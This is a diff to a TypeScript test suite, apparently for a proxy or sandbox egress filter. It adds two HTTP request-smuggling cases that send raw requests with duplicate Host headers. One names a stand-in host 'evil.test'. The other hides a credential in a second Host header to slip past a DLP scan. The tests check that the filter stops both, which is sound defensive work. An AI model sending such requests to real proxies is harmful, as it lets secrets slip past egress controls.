@@ -45,6 +45,29 @@ const TE_OBFUSCATIONS: readonly string[] = [
 
 export const smugglingCases: EscapeCase[] = [
   {
+    id: 'smuggling/duplicate-host',
+    category: 'smuggling',
+    attack: 'inside an allowed tunnel, a second Host header naming another host (and the injected token with it)',
+    expect: 'stopped',
+    async run(w) {
+      const m = w.tag();
+      const r = await w.raw('echo.test', `GET /anything/${m} HTTP/1.1${CRLF}Host: echo.test:${w.up.port}${CRLF}Host: evil.test:${w.up.port}${CRLF}Connection: close${CRLF}${CRLF}`);
+      if (w.leaked(m)) return escaped(`forwarded with two Host headers${w.leaked(w.echoToken) ? ' and the injected token' : ''} (${statuses(r.stdout)})`);
+      return statuses(r.stdout) === '400' ? stopped('answers 400') : escaped(`answers ${statuses(r.stdout)}, not 400`);
+    },
+  },
+  {
+    id: 'smuggling/duplicate-host-secret',
+    category: 'smuggling',
+    attack: 'a credential in a second Host header, which the DLP head scan skips',
+    expect: 'stopped',
+    async run(w) {
+      const m = w.marker();
+      const r = await w.raw('api.test', `GET /v1/x HTTP/1.1${CRLF}Host: api.test:${w.up.port}${CRLF}Host: ${m}${CRLF}Connection: close${CRLF}${CRLF}`);
+      return w.leaked(m) ? escaped(`the key went out in the second Host (${statuses(r.stdout)})`) : stopped(`answers ${statuses(r.stdout)}`);
+    },
+  },
+  {
     id: 'smuggling/cl-te',
     category: 'smuggling',
     attack: 'CL.TE: Content-Length covers a chunked terminator; a second request hides behind it',
